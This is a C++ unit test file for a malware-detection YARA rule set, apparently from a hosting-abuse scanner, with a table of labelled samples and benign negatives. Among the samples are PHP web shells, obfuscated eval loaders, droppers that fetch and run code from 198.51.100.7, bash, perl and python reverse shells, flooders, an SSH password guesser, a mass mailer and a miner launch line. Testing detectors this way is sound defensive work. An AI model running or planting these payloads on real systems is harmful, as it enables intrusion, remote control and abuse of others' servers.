// The project's own rules on texts written for this test: each stands for a technique, none is a sample of anybody's. They are data and never run.
#include "agent/yara_rules.hpp"

#include <gtest/gtest.h>

#include <fstream>
#include <string>

#include "agent/temporary_folder.hpp"

namespace pinfold::agent {
namespace {

const YaraRules& rules() {
  static const std::unique_ptr<YaraRules> one = YaraRules::create();
  return *one;
}

struct Row {
  const char* name;
  const char* family;  ///< "" = nothing may match
  std::string text;
};

/// Blanks that push code out of sight.
const std::string kBlanks(300, ' ');

const std::vector<Row>& rows() {
  static const std::vector<Row> all{
      {"eval of the request", "web_shell", "<?php @eval($_POST['cmd']); ?>"},
      {"eval of a decoded request", "web_shell", "<?php eval(base64_decode(stripslashes($_REQUEST[\"z0\"])));"},
      {"assert of a cookie", "web_shell", "<?php assert ( $_COOKIE [ 'k' ] );"},
      {"system with a word in front", "web_shell", "<?php system('sh -c '.$_GET['c']);"},
      {"a comment in the call", "web_shell", "<?php eval/*k3*/(/*x*/$_POST[1]);"},
      {"backticks", "web_shell", "<?php echo `{$_GET['c']}`;"},
      {"the function's name from the request", "web_shell", "<?php $_GET['a']($_POST['b']);"},
      {"a callback by name", "web_shell", "<?php array_map('assert', array($_POST['x']));"},
      {"a callback from the request", "web_shell", "<?php call_user_func($_GET['f'], $_GET['a']);"},
      {"the e modifier", "web_shell", "<?php preg_replace('/.*/e', $_POST['x'], '.');"},
      {"raw input", "web_shell", "<?php eval(file_get_contents('php://input'));"},
      {"a header", "web_shell", "<?php eval($_SERVER['HTTP_X_CMD']);"},
      {"through a variable", "web_shell", "<?php $k = $_POST['k']; eval($k);"},
      {"through two variables of the request", "web_shell", "<?php $f=$_GET['f']; @$f($_GET['a']);"},
      {"extract and call", "web_shell", "<?php extract($_REQUEST); @$f($a);"},
      {"cookie pieces", "web_shell", "<?php $c=$_COOKIE; if(isset($c[3])) $f=$c[3].$c[4]; $g = $f($c[5].$c[6]);"},
      {"an uploader", "web_shell",
       "<form method=post enctype='multipart/form-data'><input type=file name=f></form><?php copy($_FILES['f']['tmp_name'], $_FILES['f']['name']); "
       "?>"},
      {"a shell's page", "web_shell",
       "<?php echo php_uname(); echo ini_get('safe_mode'), ini_get('disable_functions'), ini_get('open_basedir'); function r($c){ if(function_exists("
       "'shell_exec')) return shell_exec($c); if (function_exists('passthru')) passthru($c); $p=popen($c,'r'); } r($_REQUEST['c']); "
       "move_uploaded_file($_FILES['a']['tmp_name'],'x'); chmod('x',0755); echo fileperms('x'); readfile('/etc/passwd'); touch('x');"},
      {"packed and run", "hidden_code", "<?php eval(gzinflate(base64_decode('S0ktLgEA')));"},
      {"rot13 in between", "hidden_code", "<?php eval(gzinflate(str_rot13(base64_decode('S0ktLgEA'))));"},
      {"create_function", "hidden_code", "<?php $f = create_function('', base64_decode('ZWNobyAx')); $f();"},
      {"the name backwards", "hidden_code", "<?php $f = strrev('edoced_46esab'); $g=$f('aa');"},
      {"the name in pieces", "hidden_code", "<?php $f='ba'.'se64_'.'decode'; $f('aa');"},
      {"assert in pieces", "hidden_code", "<?php $a = 'as'.'sert'; $a($x);"},
      {"the name in hexadecimal", "hidden_code", "<?php $f=\"\\x62\\x61\\x73\\x65\\x36\\x34_decode\"; $f('aa');"},
      {"the name in octal", "hidden_code", "<?php $f=\"\\142\\141\\163\\145\\66\\64_decode\"; $f('aa');"},
      {"chr by chr", "hidden_code", "<?php $f=chr(98).chr(97).chr(115).chr(101).chr(54).chr(52).'_decode'; $f('a');"},
      {"letters picked from a text", "hidden_code", "<?php $k='zxc'; $f=$k[12].$k[3].$k[17].$k[3].$k[11].$k[40].$k[2].$k[8].$k[9]; $f('a');"},
      {"without letters", "hidden_code", "<?php $_=('%01'^'`').('%13'^'`').('%13'^'`'); $_=('$%*&'^'{{{{').('!!^^'^'{;{~'); $__=$_; $__($_);"},
      {"jumps", "hidden_code",
       "<?php goto aaaaa; aaaaa: $x=\"\\x65\\166\"; goto bbbbb; bbbbb: $y=\"\\x65\\166\\x61\\154\"; goto ccccc; ccccc: goto ddddd; ddddd: "
       "$z=\"\\x61\\142"
       "\\x63\\144\"; goto eeeee; eeeee: goto fffff; fffff: $q=\"\\x61\\142\\x63\\144\"; goto ggggg; ggggg: goto hhhhh; hhhhh: "
       "$w=\"\\x61\\142\\x63\\144\";"},
      {"a path in numbers", "hidden_code", "<?php @include \"\\057va\\162/w\\167w/x\\056ico\";"},
      {"a picture as code", "hidden_code", "<?php include('wp-content/uploads/.cache.ico');"},
      {"behind blanks", "hidden_code", "<?php" + kBlanks + "eval($x); ?>"},
      {"fetched and run", "dropper", "<?php eval('?>'.file_get_contents('http://198.51.100.7/a.txt'));"},
      {"fetched and written", "dropper", "<?php file_put_contents('wp-cache.php', file_get_contents('http://198.51.100.7/a.txt'));"},
      {"written from the request", "dropper", "<?php fwrite(fopen('x.php','w'), base64_decode($_POST['d']));"},
      {"a shell dropper", "dropper",
       "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh"},
      {"a dropper of many machines", "dropper",
       "#!/bin/sh\ncd /tmp; for a in x.mips x.mipsel x.arm7 x.x86 x.ppc; do :; done\nwget http://198.51.100.7/x.mips; chmod +x x.mips; ./x.mips\n"},
      {"fetched into sh in the background", "dropper",
       "#!/bin/bash\ncurl -fsSL http://198.51.100.7/i.sh | sh\nnohup /dev/shm/.x/kswapd >/dev/null 2>&1 &\ncrontab -l | { cat; echo '* * * * * "
       "/dev/shm/.x/k'; } | "
       "crontab -\n"},
      {"bash to the network", "back_door", "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"},
      {"perl to the network", "back_door",
       "use "
       "Socket;$i=\"198.51.100.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");open(STDOUT,"
       "\">&S\")"
       ";exec(\"/bin/sh -i\");"},
      {"python to the network", "back_door",
       "import socket,subprocess,os\ns=socket.socket()\ns.connect(('198.51.100.7',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\n"
       "subprocess.call(['/bin/sh','-i'])\n"},
      {"pictures run as code", "back_door", "AddType application/x-httpd-php .jpg .png\n"},
      {"code before every page", "back_door", "php_value auto_prepend_file \"/home/x/public_html/images/.logo.png\"\n"},
      {"a perl bot", "irc_bot",
       "#!/usr/bin/perl\nuse IO::Socket;\nmy @adms=('x'); my $process='/usr/sbin/httpd'; $0=\"$process\"; $SIG{'INT'}='IGNORE'; fork && exit;\n"
       "my $s=IO::Socket::INET->new(PeerAddr=>'irc.invalid',PeerPort=>6667);\nprint $s \"NICK x\\r\\nUSER x x x :x\\r\\n\"; print $s \"JOIN "
       "#x\\r\\n\";\n"
       "while(<$s>){ print $s \"PONG $1\\r\\n\" if /^PING (.*)/; if (/PRIVMSG .* :!x (.*)/) { my @o=`$1`; system($1); } if (/udpflood/){ } }\n"},
      {"a udp flooder in perl", "flooder",
       "#!/usr/bin/perl\nuse Socket;\nmy ($ip,$port)=@ARGV; socket(flood, PF_INET, SOCK_DGRAM, 17); my $iaddr=inet_aton($ip);\nfor (;;) { "
       "send(flood, pack(\"a1024\",\"x\"), 0, pack_sockaddr_in($port, $iaddr)); }\n"},
      {"a udp flooder in PHP", "flooder",
       "<?php set_time_limit(0); $out=str_repeat('X',65000); $max=time()+$_GET['time']; while(1){ if(time()>$max) break; "
       "$fp=fsockopen('udp://'.$_GET['host'], rand(1,65000)); fwrite($fp,$out); }"},
      {"a udp flooder in python", "flooder",
       "import socket,random,sys\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nb=random._urandom(1024)\nwhile True:\n  "
       "s.sendto(b,(sys.argv[1],int(sys.argv[2])))\n"},
      {"a password guesser", "scanner",
       "import paramiko,threading\nfor ip in open('ips.txt'):\n  for password in open('pass.txt'):\n    c=paramiko.SSHClient()\n    "
       "c.connect(ip,username='root',password=password)\n    "
       "print('cracked',ip,password)\n"},
      {"a port scanner", "scanner",
       "import socket,threading\ndef scan(h):\n  for port in range(1,1024):\n    s=socket.socket()\n    if s.connect_ex((h,port))==0: "
       "print(h,port)\nthreading.Thread(target=scan).start()\n"},
      {"a mass mailer", "mailer",
       "<?php set_time_limit(0); if($_POST['action']=='send'){ $emails=explode(\"\\n\",$_POST['emaillist']); foreach($emails as $e){ "
       "mail($e,$_POST['subject'],$_POST['message'],'From: '.$_POST['from']); echo \"$e sent...ok<br>\"; } } ?><form><textarea "
       "name=emaillist></textarea></form>"},
      {"a mail gateway", "mailer",
       "<?php if(isset($_POST['a'])) { mail(base64_decode($_POST['a']), base64_decode($_POST['b']), base64_decode($_POST['c'])); }"},
      {"a miner's start", "miner", "#!/bin/sh\n/dev/shm/.x/xmrig -o stratum+tcp://pool.invalid:3333 -u x --donate-level 1\n"},

      {"a template engine", "", "<?php eval('?>' . $code); $out = ob_get_clean();"},
      {"a form", "", "<?php if (isset($_POST['name'])) { $name = trim($_POST['name']); echo htmlspecialchars($name); }"},
      {"sanitising with preg_replace", "", "<?php $x = preg_replace('/[^a-z0-9]/i', '', $_GET['x']);"},
      {"a contact form", "",
       "<?php if ($_POST) { $to='shop@example.net'; mail($to, $_POST['subject'], $_POST['message'], 'From: '.$_POST['from']); }"},
      {"base64 of a picture", "", "<?php $img = base64_decode($row['data']); header('Content-Type: image/png'); echo $img;"},
      {"a checked upload", "",
       "<?php require 'init.php'; if (in_array(pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION), ['jpg'])) "
       "move_uploaded_file($_FILES['f']['tmp_name'], "
       "$dir . '/' . $id . '.jpg'); ?><form></form>"},
      {"calling git", "", "<?php exec('git rev-parse HEAD', $out);"},
      {"an installer", "", "#!/bin/sh\nset -e\ncurl -fsSL https://example.net/key.asc | gpg --dearmor >/usr/share/keyrings/x.gpg\napt-get update\n"},
      {"a backup job", "", "#!/bin/bash\nmysqldump shop | gzip >/var/backups/shop.sql.gz\nfind /var/backups -mtime +7 -delete\n"},
      {"a chat library", "",
       "import socket\nclass Client:\n  def send(self): self.s.send(b'PRIVMSG #x :hi\\r\\n')\n  def nick(self): self.s.send(b'NICK x\\r\\n')\n"},
      {"a dns client over udp", "",
       "<?php $fp = fsockopen('udp://'.$server, 53, $errno, $errstr, 2); fwrite($fp, $query); $answer = fread($fp, 512);"},
      {"an .htaccess", "", "RewriteEngine On\nRewriteRule ^index\\.php$ - [L]\nAddHandler application/x-httpd-php82 .php\n"},
      {"dates out of pieces", "", "<?php $d = $m[1] . '-' . $m[2] . '-' . $m[3]; $t = $m[4].$m[5].$m[6];"},
      {"a monitoring script", "", "import socket\ns=socket.create_connection(('localhost', 25), 5)\nprint(s.recv(100))\n"},
      {"nothing", "", ""},
  };
  return all;
}

TEST(YaraRules, KnowEachTechniqueAndNothingOrdinary) {
  for (const Row& row : rows()) {
    const auto matches = rules().scan(row.text);
    if (*row.family == '\0') {
      EXPECT_TRUE(matches.empty()) << row.name << ": " << (matches.empty() ? "" : matches.front().rule);
      continue;
    }
    const bool has_family = std::any_of(matches.begin(), matches.end(), [&](const RuleMatch& match) { return match.family == row.family; });
    EXPECT_TRUE(has_family) << row.name << ": " << (matches.empty() ? "no match" : matches.front().rule);
  }
}

TEST(YaraRules, TheGatesHideNothingThatYaraWouldFind) {
  for (const Row& row : rows()) {
    const auto gated = rules().scan(row.text);
    const auto all = rules().scan_all(row.text);
    ASSERT_EQ(gated.size(), all.size()) << row.name << ": " << (all.empty() ? "" : all.front().rule);
  }
}

TEST(YaraRules, SayWhatTheyFoundInWords) {
  EXPECT_GE(rules().own_rules(), 20U);
  const auto matches = rules().scan("<?php @eval($_POST['cmd']); ?>");
  ASSERT_FALSE(matches.empty());
  EXPECT_EQ(matches.front().says, "runs code or commands that a visitor sends");
  EXPECT_EQ(matches.front().severity, abuse::Severity::High);
  EXPECT_TRUE(matches.front().is_own);
}

TEST(YaraRules, TakeAnOperatorsRulesAndLeaveOutWhatDoesNotCompile) {
  const TemporaryFolder folder;
  std::ofstream(folder.path() / "a.yar")
      << "rule house_rule { meta: family = \"house\" says = \"is ours\" strings: $a = \"zebra crossing\" condition: $a }";
  std::ofstream(folder.path() / "b.yara") << "rule broken { strings: $a = \"x\" condition: $b }";
  std::ofstream(folder.path() / "c.yar") << "include \"/etc/passwd\"\nrule x { condition: true }";
  std::ofstream(folder.path() / "notes.txt") << "no rules";
  const auto with = YaraRules::create({folder.path()});
  EXPECT_EQ(with->operator_rules(), 1U);
  ASSERT_EQ(with->problems().size(), 2U);
  EXPECT_NE(with->problems()[0].find("b.yara: line 1"), std::string::npos) << with->problems()[0];
  const auto matches = with->scan("at the zebra crossing");
  ASSERT_EQ(matches.size(), 1U);
  EXPECT_EQ(matches[0].rule, "house_rule");
  EXPECT_EQ(matches[0].says, "is ours");
  EXPECT_FALSE(matches[0].is_own);
}

TEST(YaraRules, AnAbsentFolderIsAProblemThatIsNamed) {
  const auto with = YaraRules::create({"/no/such/folder"});
  ASSERT_EQ(with->problems().size(), 1U);
  EXPECT_NE(with->problems()[0].find("/no/such/folder"), std::string::npos);
}

}  // namespace
}  // namespace pinfold::agent
